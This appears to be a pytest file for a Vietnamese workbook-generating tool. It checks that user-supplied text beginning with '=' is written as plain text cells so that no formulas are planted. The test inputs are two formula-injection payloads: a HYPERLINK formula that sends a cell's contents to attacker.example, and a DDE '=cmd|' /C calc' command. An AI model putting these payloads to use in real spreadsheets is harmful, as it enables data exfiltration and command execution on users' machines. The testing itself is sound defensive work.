"""Every text cchc writes into a workbook is a text cell: nothing from a user's file runs as a formula.

Text that starts with "=" (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) comes into the workbooks
cchc writes from a Word appendix (``cchc import``), from task texts (``cchc rollover``) and from
the unit's own indicators (the page's progress workbook). Each check opens the written .xlsx as
a zip and looks for ``<f>`` elements in its sheets' XML: there must be none cchc did not mean.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from flask.testing import FlaskClient

from generator.errors import Problems
from generator.workflows.pipeline import load_plan
from generator.workflows.workbooks import new_workbook, to_bytes
from generator.workflows.workspace import progress_workbook
from tests.conftest import run_cli
from tests.test_custom_indicators import CODE, YAML_CUSTOM, yaml_plan
from tests.web_support import upload

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem năm 2022")'
COMMAND = "=cmd|' /C calc'!A0"


def formulas(xlsx: bytes | Path) -> list[str]:
    """ "sheet!cell: formula" for each ``<f>`` element in the workbook's sheets."""
    data = xlsx.read_bytes() if isinstance(xlsx, Path) else xlsx
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ElementTree.fromstring(package.read(name))
                for cell in root.iter(f"{MAIN}c"):
                    found += [f"{name}!{cell.get('r')}: {f.text}" for f in cell.iter(f"{MAIN}f")]
    return found


def text_cell(path: Path, sheet: str, cell: str, value: str) -> None:
    """Write ``value`` at ``cell`` as a text cell, as Excel stores a text typed after an apostrophe."""
    book = openpyxl.load_workbook(path)
    book[sheet][cell] = value
    book[sheet][cell].data_type = "s"
    book.save(path)


def texts(path: Path, sheet: str) -> list[object]:
    book = openpyxl.load_workbook(path)
    return [cell.value for row in book[sheet].iter_rows() for cell in row]


@pytest.fixture
def planted(example: Path) -> Path:
    """The example folder with a task text and an indicator's name that look like formulas."""
    text_cell(example / "nhiem_vu.xlsx", "Nhiệm vụ", "C3", LINK)
    yaml_plan(example, YAML_CUSTOM.replace("ten: Tỷ lệ hồ sơ chứng thực điện tử", f'ten: "{COMMAND}"'))
    return example


def test_the_writer_keeps_texts_that_start_with_a_formula_sign_as_text() -> None:
    book = new_workbook([], ["=1+1", "+1", "@SUM(A1)"])
    sheet = book.create_sheet("Thêm")
    sheet.append([COMMAND, "-2+3"])
    data = to_bytes(book)
    assert formulas(data) == []
    assert openpyxl.load_workbook(io.BytesIO(data))["Thêm"]["A1"].value == COMMAND


def test_rollover_writes_task_texts_as_text(planted: Path, tmp_path: Path) -> None:
    out = tmp_path / "2023"
    result = run_cli("rollover", planted, "--year", "2023", "--out", out)
    assert result.exit_code == 0, result.stderr
    assert formulas(out / "nhiem_vu.xlsx") == []
    assert LINK.replace("2022", "2023") in texts(out / "nhiem_vu.xlsx", "Nhiệm vụ")


def test_rollover_keeps_the_users_own_formulas(example: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(example / "nhiem_vu.xlsx")
    book["Hướng dẫn"]["D1"] = "=1+1"
    book.save(example / "nhiem_vu.xlsx")
    out = tmp_path / "2023"
    assert run_cli("rollover", example, "--year", "2023", "--out", out).exit_code == 0
    assert [f.split("!")[1] for f in formulas(out / "nhiem_vu.xlsx")] == ["D1: 1+1"]


def test_the_progress_workbook_writes_the_units_indicator_names_as_text(planted: Path) -> None:
    problems = Problems()
    plan = load_plan([planted], problems)
    assert plan is not None, problems.errors
    data = progress_workbook(plan)
    assert formulas(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [r[:2] for r in book["Số liệu"].iter_rows(values_only=True) if r[0] == CODE] == [(CODE, COMMAND)]
    assert LINK in [c.value for c in book["Tiến độ"]["B"]]


def test_the_pages_progress_workbook_has_no_formula(planted: Path, client: FlaskClient) -> None:
    files = [(p.name, p.read_bytes()) for p in sorted(planted.iterdir()) if p.is_file()]
    page = upload(client, files).headers["Location"]
    response = client.get(f"{page}/bang-tien-do?ky=NAM&nam=2022")
    assert response.status_code == 200
    assert formulas(response.data) == []


def test_import_writes_appendix_texts_as_text(planted: Path, tmp_path: Path) -> None:
    made = run_cli("plan", planted, "--out", tmp_path / "plan")
    assert made.exit_code == 0, made.stderr
    (plan,) = (tmp_path / "plan").glob("*.docx")
    imported = run_cli("import", plan, "--out", tmp_path / "du_lieu")
    assert imported.exit_code == 0, imported.stderr
    assert formulas(tmp_path / "du_lieu" / "ke_hoach.xlsx") == []
    assert LINK in texts(tmp_path / "du_lieu" / "ke_hoach.xlsx", "Nhiệm vụ")


@pytest.mark.parametrize("options", [(), ("--yaml",)], ids=["word", "yaml"])
def test_init_writes_no_formula(tmp_path: Path, options: tuple[str, ...]) -> None:
    folder = tmp_path / "xa"
    assert run_cli("init", folder, "--year", "2027", *options).exit_code == 0
    books = sorted(folder.glob("*.xlsx"))
    assert books
    assert [f for book in books for f in formulas(book)] == []
